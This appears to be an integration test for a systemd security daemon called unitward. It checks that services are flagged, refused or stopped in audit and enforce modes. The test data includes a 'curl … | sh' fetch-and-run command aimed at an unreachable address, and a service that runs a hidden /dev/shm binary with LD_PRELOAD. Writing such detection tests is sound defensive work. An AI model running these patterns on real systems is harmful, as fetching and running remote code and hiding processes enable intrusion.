#!/bin/bash
# What is authorised and suspicious all the same, when systemd starts it: audited it runs and is told of; enforced its program
# is refused to PID 1 for it, and to nobody else, or it is stopped. Others go on.
# releases: trixie
# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$(dirname "$0")/lib.sh"

fetches='curl -s http://192.0.2.1/x | sh;' # to nowhere: there is no network

prepare() { # ROOT
	[ "$mode" = absent ] ||
		echo 'detection: { deny_score = 70; stop_score = 100; };' >"$1/etc/unitward/policy.d/outcomes.conf"
	# A moment longer than what the scout may miss, where there is no process connector: unitwardd(8).
	service "$1" fetching "/bin/sh -c '$fetches echo fetching >>/srv/ran; sleep 1; :'"
	service "$1" plain "/bin/sh -c 'echo plain >>/srv/ran; sleep infinity'"
	service "$1" hidden "/dev/shm/.hidden infinity" 'Environment=LD_PRELOAD=/dev/shm/x.so'
	service "$1" steady "/usr/bin/sleep infinity"
}
service() { # ROOT NAME COMMAND [SETTING]
	printf '[Service]\nExecStart=%s\n%s\n' "$3" "${4-}" >"$1/usr/lib/systemd/system/$2.service"
}

begin() { systemctl start "$1.service"; }
has_run() { [ "$(grep -cx "$1" /srv/ran)" = "$2" ]; } # NAME TIMES
is_refused() { systemctl show -P ExecMainStatus "$1.service" | grep -x 203; } # systemd's EXIT_EXEC
is_active() { systemctl is-active "$1.service"; }
is_over() { ! systemctl is-active "$1.service"; }
hide() { cp /usr/bin/sleep /dev/shm/.hidden; }

# told UNIT CONDITION: in a record of it.
told() {
	in_container unitward events --json | jq -es --arg unit "$1.service" --arg mode "$mode" \
		"any(.[]; .unitward.target_unit == \$unit and .unitward.mode == \$mode and ($2))" >/dev/null
}
says_alerts() { in_container unitward events --alerts | grep -E "$1"; }

for mode in $(modes absent audit enforce); do
	boot "$mode" || continue
	in_container hide
	expect "a steady service starts" in_container begin steady
	expect "the suspicious one starts" in_container begin fetching
	expect "it runs" await 10 in_container has_run fetching 1
	if [ "$mode" != absent ]; then
		expect "an alert says why" await 10 told fetching '.unitward.kind == "alert" and .unitward.response == "deny"
			and .process.parent.pid == 1 and (.unitward.reasons | index("fetch-and-run"))'
		expect "its story is told" says_alerts 'ALERT .* fetching.service'
	fi
	in_container systemctl restart fetching.service
	if [ "$mode" = enforce ]; then
		expect "the second time it is refused" await 10 in_container is_refused fetching
		expect "that is told" await 10 told fetching '.unitward.response_done'
		expect "it has not run again" in_container has_run fetching 1
	else
		expect "it runs again" await 10 in_container has_run fetching 2
	fi
	expect "another unit starts the same program" in_container begin plain
	expect "it runs" await 10 in_container has_run plain 1
	expect "so does who is no manager" in_container sh -c true
	in_container begin hidden
	if [ "$mode" = enforce ]; then
		expect "a worse one is stopped" await 10 in_container is_over hidden
		expect "that is told too" await 10 told hidden '.message | test("its manager stops")'
	else
		expect "a worse one goes on" in_container is_active hidden
		[ "$mode" = absent ] || expect "it is told of" await 10 told hidden '.unitward.kind == "alert" and .unitward.response == "stop"'
	fi
	expect "the steady one goes on" in_container is_active steady
	expect "so does the plain one" in_container is_active plain
	if [ "$mode" != absent ]; then
		expect "of neither there is an alert" eval '! told steady ".unitward.kind == \"alert\"" && ! told plain ".unitward.kind == \"alert\""'
	fi
	halt
done
finish
